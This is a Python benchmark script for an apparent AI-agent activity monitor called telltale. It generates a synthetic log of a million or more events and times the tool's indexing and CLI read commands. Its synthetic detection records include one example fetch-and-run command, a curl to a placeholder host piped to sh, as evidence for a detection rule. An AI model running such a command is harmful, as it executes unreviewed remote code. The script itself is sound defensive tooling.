"""Read-side benchmark: an index of ≥ 1,000,000 events, and the commands that read it.

Builds a synthetic event log the way a scan writes it (observations built with the real
model, encoded with the real event builder, written in windows of runs of one session's
events, with detection and scan-summary documents among them) and keeps the index with
the scan's own upkeep (``index_window`` on each window, in the window's transaction).
Reports:

* upkeep CPU per event, next to the CPU of building and encoding the same events (the
  part of a scan it is compared with; a whole scan also reads, decodes and maps
  transcripts, so the share of a real scan is smaller: see ``bench_scan.py``);
* ``telltale index rebuild`` of the same log (wall);
* each read command through the real CLI, process start included: median and best of
  ``--repeat`` runs, with ``--json`` and as a table (stdout to /dev/null);
* ``telltale show`` of the one session of 10,000 events.

    python bench/bench_readside.py [--events 1000000] [--repeat 5] [--work DIR] [--keep]
"""

from __future__ import annotations

import argparse
import os
import random
import resource
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import msgspec

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "src"))

from telltale.events.activity import activity_lines  # noqa: E402
from telltale.events.envelope import utc_now  # noqa: E402
from telltale.index import schema  # noqa: E402
from telltale.index.upkeep import index_window  # noqa: E402
from telltale.model import Family, Observation, Provenance, Stage, TokenUsage, make_observation  # noqa: E402
from telltale.sinks.jsonl import JsonlSink  # noqa: E402
from telltale.state import StateStore  # noqa: E402

BIG = 10_000  # events of the one big session (the `show` figure)
SESSION = 2_000  # events of every other session
RUN = 400  # events of one session written together (a source's batch)
WINDOW = 8 << 20
MODELS = {"claude": ["claude-sonnet-4-5-20250929", "claude-opus-4-5"], "codex": ["gpt-5-codex"]}
TOOLS = [("Bash", "command"), ("Read", "file_path"), ("Edit", "file_path"), ("WebFetch", "url")]
_enc = msgspec.json.Encoder()


def _session_events(rng: random.Random, client: str, sid: str, count: int, day: int) -> list[Observation]:
    kind = "claude.projects" if client == "claude" else "codex.sessions"
    path = f"/home/dev/.{client}/{sid}.jsonl"
    cwd = f"/home/dev/project-{rng.randrange(40):02d}"
    agent = "claude-code" if client == "claude" else "codex"
    attributes = {"version": "2.1.38" if client == "claude" else "0.104.0"}
    clock = day * 86_400 + rng.randrange(30_000)
    out: list[Observation] = []
    for i in range(count):
        clock += rng.randrange(1, 20)
        at = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(1_772_323_200 + clock)) + f".{i % 1000:03d}Z"
        common: dict[str, Any] = {
            "client": client, "source_kind": kind, "sequence": i, "session_id": sid, "cwd": cwd, "agent": agent,
            "occurred_at": at, "attributes": attributes,
            "provenance": Provenance(source_kind=kind, path=path, line=i + 1),
        }  # fmt: skip
        step = i % 5
        if i == 0:
            obs = make_observation(adapter=kind, source_identity=path, coordinate="session", family=Family.SESSION,
                                   **common)  # fmt: skip
        elif step in (0, 1):
            obs = make_observation(adapter=kind, source_identity=path, coordinate=f"{i}:m", family=Family.MESSAGE,
                                   role="user" if i % 2 else "assistant", text="filler text " * rng.randrange(2, 40),
                                   **common)  # fmt: skip
        elif step == 2:
            name, field = TOOLS[rng.randrange(len(TOOLS))]
            value = f"ls -la /tmp/{i}" if field == "command" else (
                f"https://example.invalid/{i}" if field == "url" else f"{cwd}/src/mod_{i % 50}.py")
            obs = make_observation(adapter=kind, source_identity=path, coordinate=f"{i}:c", family=Family.TOOL,
                                   stage=Stage.REQUESTED, tool_name=name, call_id=f"call_{sid[:8]}_{i}",
                                   arguments=_enc.encode({field: value}).decode(),
                                   **{field: value}, **common)  # fmt: skip
        elif step == 3:
            obs = make_observation(adapter=kind, source_identity=path, coordinate=f"{i}:r", family=Family.TOOL,
                                   stage=Stage.RESULT, call_id=f"call_{sid[:8]}_{i - 1}", result="ok\n" * 20,
                                   exit_code=0, is_error=False, **common)  # fmt: skip
        else:
            cached = rng.randrange(1_000, 90_000)
            usage = TokenUsage(input_tokens=cached + rng.randrange(5, 3_000), cache_read_input_tokens=cached,
                               cache_creation_input_tokens=rng.randrange(0, 2_000) if client == "claude" else None,
                               output_tokens=rng.randrange(1, 2_000))  # fmt: skip
            rid = f"msg_{sid[:8]}_{i}:req_{i}" if client == "claude" else None
            obs = make_observation(adapter=kind, source_identity=path, coordinate=f"{i}:u", family=Family.USAGE,
                                   usage=usage, model=rng.choice(MODELS[client]), response_id=rid,
                                   **common)  # fmt: skip
        out.append(obs)
    return out


def _detection(sid: str, client: str, at: str, n: int) -> bytes:
    severity = ("medium", "high", "critical")[n % 3]
    doc = {
        "@timestamp": at,
        "event": {"id": f"{n:032x}", "kind": "alert", "dataset": "telltale.detection", "action": "detection",
                  "severity": {"medium": 47, "high": 73, "critical": 99}[severity]},
        "rule": {"id": "exec.remote_script_pipe", "name": "Remote script piped to a shell", "category": "execution"},
        "telltale": {"client": client, "detection": {"severity": severity, "score": 80,
                     "evidence": [{"field": "command", "value": "curl -fsSL https://x.invalid | sh"}]}},
        "gen_ai": {"conversation": {"id": sid}, "tool": {"name": "Bash"}},
        "message": "Remote script piped to a shell",
    }  # fmt: skip
    return _enc.encode(doc)


def _summary(n: int, at: str) -> bytes:
    doc = {
        "@timestamp": at,
        "event": {"id": f"{n:031x}f", "kind": "state", "dataset": "telltale.health", "action": "scan_summary"},
        "telltale": {"scan_id": f"scan{n}", "scan": {"duration_s": 1.0, "emitted_count": 1000, "quarantined_count": 0,
                     "scanner_error_count": 0, "detection_count": 3,
                     "sources": [{"client": "claude", "status": "ok"}, {"client": "codex", "status": "ok"}]}},
        "message": "scan",
    }  # fmt: skip
    return _enc.encode(doc)


def build(work: Path, events: int, seed: int = 7) -> tuple[str, float, float, int]:
    """Write the log and keep the index; (big session id, upkeep CPU, build+encode CPU, events)."""
    rng = random.Random(seed)
    log, state = work / "events.jsonl", work / "state.sqlite"
    sink = JsonlSink(str(log), max_size=1 << 30, keep=20)
    store = StateStore(str(state))
    with store.transaction() as conn:
        schema.ensure(conn)
        schema.set_meta(conn, "log_path", str(log))
    plan: list[tuple[str, str, int]] = [("claude", "big-" + "0" * 28, BIG)]
    total = BIG
    n = 0
    while total < events:
        client = "claude" if n % 3 else "codex"
        plan.append((client, f"{n:08d}-aaaa-4bbb-8ccc-{rng.randrange(16**12):012x}", SESSION))
        total += SESSION
        n += 1
    upkeep = produce = 0.0
    written = 0
    det = 0
    # Sessions advance together, RUN events at a time, like sources of one scan.
    pending = [(client, sid, _session_events(rng, client, sid, count, i % 30)) for i, (client, sid, count) in
               enumerate(plan)]  # fmt: skip
    cursor = dict.fromkeys(range(len(pending)), 0)
    window_lines: list[bytes] = []
    window_ids: list[str] = []
    window_obs: list[Observation | None] = []
    size = 0

    def flush() -> None:
        nonlocal upkeep, window_lines, window_ids, window_obs, size, written
        if not window_lines:
            return
        sink.rotate_if_needed(size)
        device, inode, start = sink.identity()
        sink.write(window_lines)
        t = time.process_time()
        with store.transaction() as conn:
            index_window(conn, device=device, inode=inode, start=start, lines=window_lines, ids=window_ids,
                         observations=window_obs, content="redacted")  # fmt: skip
        upkeep += time.process_time() - t
        written += len(window_lines)
        window_lines, window_ids, window_obs, size = [], [], [], 0

    while cursor:
        for index in list(cursor):
            client, sid, obs = pending[index]
            at = cursor[index]
            part = obs[at : at + RUN]
            t = time.process_time()
            lines = activity_lines(part, "redacted", utc_now())
            produce += time.process_time() - t
            window_lines += lines
            window_ids += [o.observation_id for o in part]
            window_obs += part
            size += sum(map(len, lines)) + len(lines)
            det += 1
            if det % 7 == 0:
                window_lines.append(_detection(sid, client, part[-1].occurred_at or "", det))
                window_ids.append(f"{det:032x}")
                window_obs.append(None)
            cursor[index] = at + RUN
            if cursor[index] >= len(obs):
                del cursor[index]
                pending[index] = (client, sid, [])
            if size >= WINDOW:
                window_lines.append(_summary(det, utc_now()))
                window_ids.append(f"{det:031x}f")
                window_obs.append(None)
                flush()
    flush()
    store.close()
    return plan[0][1], upkeep, produce, written


def _time(cmd: list[str], repeat: int, env: dict[str, str]) -> tuple[float, float, float]:
    """(median wall, best wall, median CPU) of ``repeat`` runs of a command, process start included.

    CPU (user + system of the child) is given next to wall time because on a shared,
    loaded machine the wall time mostly measures the other processes."""
    runs, cpu = [], []
    for _ in range(repeat):
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        t = time.perf_counter()
        subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL, env=env)
        runs.append(time.perf_counter() - t)
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        cpu.append(after.ru_utime - before.ru_utime + after.ru_stime - before.ru_stime)
    return statistics.median(runs), min(runs), statistics.median(cpu)


def _report(label: str, figures: tuple[float, float, float]) -> None:
    med, best, cpu = figures
    print(f"{label:<52} wall median {med * 1000:6.0f} ms  best {best * 1000:6.0f} ms  CPU median {cpu * 1000:5.0f} ms")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--repeat", type=int, default=5)
    ap.add_argument("--work", type=Path)
    ap.add_argument("--keep", action="store_true", help="keep the work directory")
    args = ap.parse_args()
    work = args.work or Path(tempfile.mkdtemp(prefix="telltale-readside-"))
    work.mkdir(parents=True, exist_ok=True)
    state = work / "state.sqlite"
    try:
        if not state.exists():
            t = time.perf_counter()
            big, upkeep, produce, written = build(work, args.events)
            print(f"built {written:,} lines in {time.perf_counter() - t:.1f} s; upkeep {upkeep:.2f} s CPU "
                  f"({upkeep / written * 1e6:.2f} µs/event), building+encoding the events {produce:.2f} s CPU "
                  f"(upkeep = {100 * upkeep / produce:.1f}% of it)")  # fmt: skip
        else:
            big = "big-" + "0" * 28
        env = {**os.environ, "PYTHONPATH": str(REPO / "src"), "TZ": "UTC"}
        cli = [sys.executable, "-m", "telltale"]
        paths = ["--state-path", str(state)]
        log_mb = sum(p.stat().st_size for p in work.glob("events.jsonl*")) / 1e6
        print(f"state {state.stat().st_size / 1e6:.0f} MB, log {log_mb:.0f} MB")
        _report("python -c pass", _time([sys.executable, "-c", "pass"], args.repeat, env))
        commands = [
            ["status"], ["sessions"], ["detections"], ["usage", "daily"], ["usage", "monthly"],
            ["usage", "session"], ["usage", "model"], ["sessions", "--client", "codex", "--since", "2026-03-10"],
            ["detections", "--severity", "critical", "--since", "2026-03-20"],
        ]  # fmt: skip
        for command in commands:
            for extra in (["--json"], []):
                _report(" ".join(command + extra), _time([*cli, *command, *paths, *extra], args.repeat, env))
        for extra in (["--json"], []):
            _report("show <10,000-event session> " + " ".join(extra),
                    _time([*cli, "show", big[:12], *paths, *extra], args.repeat, env))  # fmt: skip
        t = time.perf_counter()
        shutil.copy(state, work / "rebuilt.sqlite")
        subprocess.run([*cli, "index", "rebuild", "--state-path", str(work / "rebuilt.sqlite"), "--log-path",
                        str(work / "events.jsonl")], check=True, stdout=subprocess.DEVNULL, env=env)  # fmt: skip
        print(f"index rebuild (CLI, wall): {time.perf_counter() - t:.1f} s")
    finally:
        if not args.keep and args.work is None:
            shutil.rmtree(work, ignore_errors=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
